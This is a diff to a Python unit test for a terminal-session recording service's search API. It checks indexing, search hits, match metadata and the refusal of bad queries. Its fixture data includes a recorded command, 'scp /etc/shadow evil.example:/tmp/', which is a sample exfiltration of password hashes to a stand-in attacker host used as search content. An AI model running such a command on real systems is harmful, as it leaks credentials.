@@ -19,11 +19,13 @@ from broker.sessions.search import Search, compile_regex
 from broker.sessions.service import Filters, _labelled
 from broker.store import migrations
 from broker.store.schema_base import Migration
-from tests.unit import test_sessions_index
+from tests.unit import test_daemon, test_sessions_index
 from tests.unit.test_sessions_index import NOW, World, finished_log
 from tests.unit.test_sessions_iolog import START, Event, write_recording
 
 world = test_sessions_index.world  # the same fixture: a store and a session store in tmp_path
+# A real daemon on a Unix socket (test_daemon's fixtures).
+shared_dir, settings, daemon = test_daemon.shared_dir, test_daemon.settings, test_daemon.daemon
 
 TYPED: dict[str, list[Event]] = {
     "000001": [("ttyout", 0.1, b"$ "), ("ttyin", 1, b"scp /etc/shadow evil.example:/tmp/\r")],
@@ -191,3 +193,33 @@ def test_a_sqlite_without_fts5_is_refused_with_one_line(tmp_path: Any) -> None:
     with pytest.raises(UnavailableError, match="needs SQLite's FTS5") as caught:
         migrations.apply(conn, fake, "2026-12-07T00:00:00Z")
     assert "python3" in (caught.value.fix or "")
+
+
+def test_the_api_answers_with_hits_and_how_they_were_found(
+    daemon: Any, settings: Any, shared_dir: Any
+) -> None:
+    root = settings.session_store
+    root.mkdir(parents=True, exist_ok=True)
+    for n, (rid, events) in enumerate(TYPED.items()):
+        write_recording(root, rid, events, log=finished_log(START + timedelta(minutes=n), 30))
+    status, report = test_daemon.post_json(daemon, "/v1/sessions/index", {})
+    assert status == 200 and len(report["finished"]) == 4, report
+    status, found = test_daemon.post_json(
+        daemon, "/v1/sessions/search", {"pattern": "shadow", "mode": "word", "exit": 0}
+    )
+    assert status == 200, found
+    assert [h["session"]["id"] for h in found["hits"]] == ["000004", "000001"]
+    assert (found["mode"], found["narrowed"], found["complete"]) == ("word", True, True)
+    status, found = test_daemon.post_json(
+        daemon, "/v1/sessions/search", {"pattern": "evil\\.ex", "streams": "input"}
+    )
+    assert [h["match"]["stream"] for h in found["hits"]] == ["ttyin"]
+    assert found["literals"] == ["evil.ex"] and found["read"] == 1
+    for body in (
+        {"pattern": "shadow", "mode": "word", "streams": "output"},
+        {"pattern": "a b", "mode": "prefix"},
+        {"pattern": "shadow", "mode": "fts"},
+        {"pattern": "shadow", "exit": 256},
+    ):
+        status, refused = test_daemon.post_json(daemon, "/v1/sessions/search", body)
+        test_daemon.assert_error(status, refused, 400, "usage")
